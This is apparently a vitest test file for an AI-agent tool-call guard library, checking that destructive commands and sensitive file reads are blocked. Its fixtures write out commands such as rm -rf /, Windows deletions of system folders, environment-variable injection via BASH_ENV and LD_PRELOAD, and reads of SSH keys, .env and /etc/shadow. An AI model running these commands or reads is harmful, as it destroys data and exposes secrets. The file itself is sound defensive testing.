import { symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import {
  BeforeToolCall,
  createHooks,
  type Execute,
  type HookProvider,
  modify,
  type ToolCallOutcome,
} from '@hooks/core';
import { callTool } from '@hooks/core/tool-call';
import { temporaryFolder } from '@hooks/testing/temporary-folder';
import { describe, expect, test } from 'vitest';
import { commandSafety, sensitivePaths, usualCommandTools } from '../src/index.ts';
import { temporaryRepository } from './repository.ts';

async function call(provider: HookProvider, toolName: string, input: unknown): Promise<ToolCallOutcome> {
  const hooks = createHooks();
  hooks.use(provider);
  return callTool(hooks, { session: hooks.session(), toolName, input }, () => 'ran');
}

describe('commandSafety', () => {
  test.each([
    ['exec', { command: 'rm -rf /' }],
    ['shell', { cmd: 'rm -rf /', cwd: '/app' }],
    ['Bash', { command: 'rm -rf /', description: 'clean up' }],
    ['local_shell', { action: { command: ['bash', '-lc', 'rm -rf /'] } }],
    ['shell', { command: ['rm', '-rf', '/'] }],
    ['exec', 'rm -rf /'],
    ['mcp__box__exec', { command: 'rm -rf /' }],
    ['shell', { action: { commands: ['ls', 'rm -rf /'] } }],
    ['mastra_workspace_execute_command', { command: 'rm -rf /' }],
    ['exec', { unheard_of: 'rm -rf /' }],
    ['exec', { command: '', unheard_of: 'rm -rf /' }],
    ['execute_command', { command: 'rm', args: ['-rf', '/'] }],
    ['execute_command', { command: 'bash', arguments: '-c "rm -rf /"' }],
    ['shell', { action: { command: 'rm', args: ['-rf', '/'] } }],
    ['shell', { commands: [{ command: 'ls' }, { command: 'rm', args: ['-rf', '/'] }] }],
    ['shell', { command: ['chmod', '-R', 777, '/'] }],
    ['shell', { command: [[[[[[[[[['rm -rf /']]]]]]]]]] }],
    ['shell', ['rm', '-rf', '/']],
    ['process', { action: 'write', sessionId: 'a', data: 'rm -rf /\n' }],
    ['write_stdin', { session_id: 3, chars: 'rm -rf /\n' }],
    ['write_bash', { shellId: '3', input: 'rm -rf /{enter}' }],
    ['write_bash', { shellId: '3', input: 'rm -rf /\n' }],
    ['write_powershell', { shellId: '3', input: 'rm -rf /\n' }],
    ['mcp__desktop__start_process', { command: 'rm -rf /', timeout_ms: 1000 }],
    ['interact_with_process', { pid: 7, input: 'rm -rf /' }],
    ['exec', { command: 'git fetch', env: { GIT_SSH_COMMAND: 'rm -rf /' } }],
    ['exec', { command: 'ls', env: { PROMPT_COMMAND: 'rm -rf /' } }],
    ['exec', { command: 'bash x.sh', env: { BASH_ENV: '$(rm -rf /)' } }],
    ['exec', { command: 'curl -o x.so http://host && ls', env: { LD_PRELOAD: 'x.so' } }],
    ['exec', { command: 'ls', env: { 'BASH_FUNC_ls%%': '() { rm -rf /; }' } }],
    ['exec', { command: 'rm -rf "$TARGET"', environment: ['TARGET=/'] }],
    ['exec', { command: 'rm -rf "$TARGET"', env_vars: [{ name: 'TARGET', value: '/' }] }],
    ['exec', { command: 'git commit -m x', env: { HUSKY: 0 } }],
    ['exec', { command: 'rm -rf etc home', cwd: '/' }],
    ['local_shell', { action: { command: ['cat', 'id_rsa'], working_directory: '~/.ssh' } }],
    ['exec', { command: 'sh -s', stdin: "echo 'a'\nrm -rf /" }],
  ])('%s %j does not run', async (toolName, input) => {
    const outcome = await call(commandSafety(), toolName, input);
    expect(outcome).toMatchObject({
      status: 'blocked',
      ran: false,
      by: 'command-safety/builtin:command-safety-guard',
    });
  });

  test('an ordinary command runs, and other tools are not checked', async () => {
    expect(await call(commandSafety(), 'exec', { command: 'npm test' })).toMatchObject({ status: 'ok' });
    const listed = { command: 'ls', args: ['-la', 'src'], description: 'Lists the sources' };
    expect(await call(commandSafety(), 'exec', listed)).toMatchObject({ status: 'ok' });
    expect(await call(commandSafety(), 'note', { command: 'rm -rf /' })).toMatchObject({ status: 'ok' });
  });

  test.each([
    {
      command: 'npm test',
      env: { PAGER: 'less', EDITOR: 'vim', ENV: '.env', PS1: '\\u@\\h \\w $ ', HUSKY: '0' },
    },
    {
      command: './run',
      env: { LD_PRELOAD: '/usr/lib/libjemalloc.so', 'a.b': 'c', LESSOPEN: '| lesspipe %s' },
    },
    { command: 'git fetch', env: { GIT_SSH_COMMAND: 'ssh -i ~/.ssh/id_rsa' }, environment: 'production' },
    { command: 'rm -rf dist', cwd: '/' },
    { command: 'rm -rf node_modules ./dist/*', workdir: '/usr/src/app' },
    { command: 'cat', stdin: 'rm -rf /' },
  ])('other arguments of a call with an ordinary command are not checked: %j', async (input) => {
    expect(await call(commandSafety(), 'exec', input)).toMatchObject({ status: 'ok' });
  });

  test('the reason names the rule, the part and what to do instead', async () => {
    const outcome = await call(commandSafety(), 'exec', { command: 'npm ci && sudo rm -rf ~/ && npm test' });
    expect(outcome.reason).toBe(
      'Blocked (filesystem/delete): `sudo rm -rf ~/`. This would delete the home folder. Name the files or the folder inside the project that should go, for example `rm -rf ./dist`; never a root, a home or `*`.',
    );
  });

  test('a clean working tree may be reset if workingTree is set, one with changes may not', async () => {
    const workingTree = temporaryRepository();
    const reset = { command: 'git reset --hard' };
    expect(await call(commandSafety(), 'exec', reset)).toMatchObject({ status: 'blocked' });
    expect(await call(commandSafety({ workingTree }), 'exec', reset)).toMatchObject({ status: 'ok' });
    expect(
      await call(commandSafety({ workingTree }), 'exec', { command: 'git reset --hard; rm -rf /' }),
    ).toMatchObject({ status: 'blocked' });
    writeFileSync(join(workingTree, 'a.txt'), 'two\n');
    expect(await call(commandSafety({ workingTree }), 'exec', reset)).toMatchObject({ status: 'blocked' });
    const elsewhere = { command: `cd ${temporaryFolder()} && git reset --hard` };
    expect(await call(commandSafety({ workingTree }), 'exec', elsewhere)).toMatchObject({
      status: 'blocked',
    });
  });

  test('the policy decides what is refused', async () => {
    const input = { command: 'git reset --hard' };
    expect(await call(commandSafety({ policy: 'essential' }), 'exec', input)).toMatchObject({ status: 'ok' });
    const env = { command: 'env' };
    expect(await call(commandSafety({ policy: 'strict' }), 'exec', env)).toMatchObject({ status: 'blocked' });
    const policy = { refuse: { 'lost-work': 'high' } } as const;
    expect(await call(commandSafety({ policy }), 'exec', { command: 'rm -rf /' })).toMatchObject({
      status: 'ok',
    });
    expect(await call(commandSafety({ policy }), 'exec', input)).toMatchObject({ status: 'blocked' });
  });

  test('a command of a PowerShell tool is parsed as PowerShell', async () => {
    const command = "Remove-Item -Recurse -Force 'C:\\Users'";
    expect(await call(commandSafety(), 'PowerShell', { command })).toMatchObject({ status: 'blocked' });
    const fine = { command: 'Remove-Item -Recurse -Force .\\dist' };
    expect(await call(commandSafety(), 'PowerShell', fine)).toMatchObject({ status: 'ok' });
  });

  test.each([
    ['cmd', { command: 'del /s /q C:\\Windows' }],
    ['mcp__win__cmd', { command: 'rd /s /q %SystemRoot%' }],
    ['exec', { command: "Remove-Item -Recurse -Force 'C:\\Users'", shell: 'pwsh' }],
    ['exec', { command: 'rd /s /q %SystemRoot%', shell: 'C:\\Windows\\System32\\cmd.exe' }],
    // A model may name another shell than the one that the tool has.
    ['exec', { command: '/bin/r\\m -rf ~/x; rm -rf /', shell: 'cmd' }],
    ['exec', { command: 'x="-rf /"; rm $x', shell: 'pwsh' }],
    ['exec', { command: 'x="-rf /"; rm $x', shell: 'python' }],
    ['python', { code: "import shutil\nshutil.rmtree('/')" }],
    ['mcp__box__run_python', { code: 'import os; os.system("rm -rf /")' }],
    ['python_repl', "__import__('shutil').rmtree('/etc')"],
    ['execute_python', { script: "open('/root/.ssh/id_rsa').read()" }],
  ])('a text is judged in the language of its tool: %s %j does not run', async (toolName, input) => {
    expect(await call(commandSafety(), toolName, input)).toMatchObject({ status: 'blocked', ran: false });
  });

  test.each([
    ['cmd', { command: 'del /s /q build' }],
    ['python', { code: "import shutil\nshutil.rmtree('build')" }],
    ['python', { code: "print('rm -rf /')\nprint(\"it's done; rm -rf /\")" }],
    ['exec', { command: 'npm test', shell: '/bin/bash' }],
  ])('and an ordinary one runs: %s %j', async (toolName, input) => {
    expect(await call(commandSafety(), toolName, input)).toMatchObject({ status: 'ok' });
  });

  test('workingTree is where commands start, so folders outside of it are not deleted', async () => {
    const workingTree = temporaryFolder();
    const outside = { command: 'rm -rf /opt/app/src' };
    expect(await call(commandSafety(), 'exec', outside)).toMatchObject({ status: 'ok' });
    expect(await call(commandSafety({ workingTree }), 'exec', outside)).toMatchObject({ status: 'blocked' });
    for (const command of ['rm -rf dist', `rm -rf ${workingTree}/dist`])
      expect(await call(commandSafety({ workingTree }), 'exec', { command })).toMatchObject({ status: 'ok' });
  });

  test('context says on what machine commands run: in a container, what breaks only that passes', async () => {
    const setup = { command: 'useradd -m app && echo "PATH=/opt/bin:$PATH" >> ~/.bashrc' };
    const leak = { command: 'git push --force' };
    expect(await call(commandSafety(), 'exec', setup)).toMatchObject({ status: 'blocked' });
    for (const context of ['container', 'ci'] as const) {
      expect(await call(commandSafety({ context }), 'exec', setup)).toMatchObject({ status: 'ok' });
      expect(await call(commandSafety({ context }), 'exec', leak)).toMatchObject({ status: 'blocked' });
    }
  });

  test('tools adds your own tool with its argument', async () => {
    const provider = commandSafety({ tools: { ...usualCommandTools, my_shell: 'script' } });
    expect(await call(provider, 'my_shell', { script: 'rm -rf /' })).toMatchObject({ status: 'blocked' });
  });

  test('it checks the rewritten command', async () => {
    const hooks = createHooks();
    hooks.use(commandSafety());
    hooks.on(BeforeToolCall, () => modify({ input: { command: 'rm -rf /' } }), { priority: -1000 });
    const outcome = await callTool(
      hooks,
      { session: hooks.session(), toolName: 'exec', input: { command: 'ls' } },
      () => 'ran',
    );
    expect(outcome).toMatchObject({ status: 'blocked', ran: false });
  });

  test('allowWhenIsolated lets only calls pass that run in an isolated sandbox', async () => {
    const run = async (isolated: boolean, allowWhenIsolated: boolean): Promise<string> => {
      const hooks = createHooks();
      hooks.use(commandSafety({ allowWhenIsolated }));
      const execute: Execute = Object.assign(() => 'in the box', { route: { provider: 'test', isolated } });
      hooks.on(BeforeToolCall, () => modify({ execute }));
      const input = { command: 'rm -rf /' };
      return (await callTool(hooks, { session: hooks.session(), toolName: 'exec', input }, () => 'ran'))
        .status;
    };
    expect(await run(true, true)).toBe('ok');
    expect(await run(false, true)).toBe('blocked');
    expect(await run(true, false)).toBe('blocked');
  });
});

describe('sensitivePaths', () => {
  test.each([
    ['read', { path: '~/.ssh/id_rsa' }],
    ['Read', { file_path: '/app/.env', limit: 10 }],
    ['write', { path: '/etc/sudoers', content: 'x' }],
    ['edit', { path: 'node_modules/../.env', old: 'a', new: 'b' }],
    ['read_multiple_files', { paths: ['README.md', '.env'] }],
    ['apply_patch', { input: '*** Begin Patch\n*** Update File: .env\n@@\n-A=1\n+A=2\n*** End Patch' }],
    ['apply_patch', { operation: { type: 'update_file', path: '.env', diff: '+A=1' } }],
    ['mastra_workspace_read_file', { path: '.env' }],
    ['NotebookEdit', { notebook_path: '~/.ssh/id_rsa' }],
    ['mcp__files__read_file', { path: '.aws/credentials' }],
    ['move_file', { source: '.env', destination: 'env.txt' }],
    ['move_file', { src: '.env', destination: 'env.txt' }],
    ['copy_file', { old_path: '.env', to: 'env.txt' }],
    ['read_file', { directory: '~/.ssh', filename: 'id_rsa' }],
    ['read_file', { path: '', name: '.env' }],
    ['read_file', { path: [[[[[[[[[['.env']]]]]]]]]] }],
    ['read_multiple_files', { files: { '/etc/shadow': { head: 10 } } }],
    ['write_file', { unheard_of: { 'config/.env': 'A=1' } }],
    ['list_directory', { path: '~/.ssh' }],
    ['directory_tree', { path: '/home/ann/.aws' }],
    ['search_file_content', { path: '.env', pattern: '.' }],
    ['mcp__files__get_file_info', { path: '.env' }],
  ])('%s %j does not run', async (toolName, input) => {
    const outcome = await call(sensitivePaths(), toolName, input);
    expect(outcome).toMatchObject({
      status: 'blocked',
      ran: false,
      by: 'sensitive-paths/builtin:security-audit',
    });
  });

  test('a path that is only written in a long form is checked, content is not', async () => {
    const padded = await call(sensitivePaths(), 'read_file', { path: `${'./'.repeat(3000)}.env` });
    expect(padded).toMatchObject({ status: 'blocked' });
    const content = await call(sensitivePaths(), 'write_file', {
      unheard_of: `${'a line\n'.repeat(3000)}/.env`,
    });
    expect(content).toMatchObject({ status: 'ok' });
  });

  test.each([
    ['read', { path: 'src/index.ts' }],
    ['read', { path: 'test/fixtures/id_rsa' }],
    ['write', { path: 'docs/setup.md', content: '~/.ssh/id_rsa' }],
    ['exec', { path: '.env' }],
    ['read_file', { url: { headers: { accept: '*/*' }, credentials: 'omit' } }],
    ['search_files', { path: 'src', pattern: '*.pem', excludePatterns: ['.env'] }],
    ['glob', { pattern: '**/.env*' }],
  ])('%s %j runs', async (toolName, input) => {
    expect(await call(sensitivePaths(), toolName, input)).toMatchObject({ status: 'ok' });
  });

  test('allow lets a path pass', async () => {
    const provider = sensitivePaths({ allow: [/(?:^|\/)\.env\.ci$/] });
    expect(await call(provider, 'read', { path: '.env.ci' })).toMatchObject({ status: 'ok' });
    expect(await call(provider, 'read', { path: '.env' })).toMatchObject({ status: 'blocked' });
  });

  test('symlinks follows a symbolic link', async () => {
    const folder = temporaryFolder();
    writeFileSync(join(folder, '.env'), '');
    symlinkSync(join(folder, '.env'), join(folder, 'notes.txt'));
    const input = { path: join(folder, 'notes.txt') };
    expect(await call(sensitivePaths({ symlinks: true }), 'read', input)).toMatchObject({
      status: 'blocked',
    });
    expect(await call(sensitivePaths(), 'read', input)).toMatchObject({ status: 'ok' });
  });
});
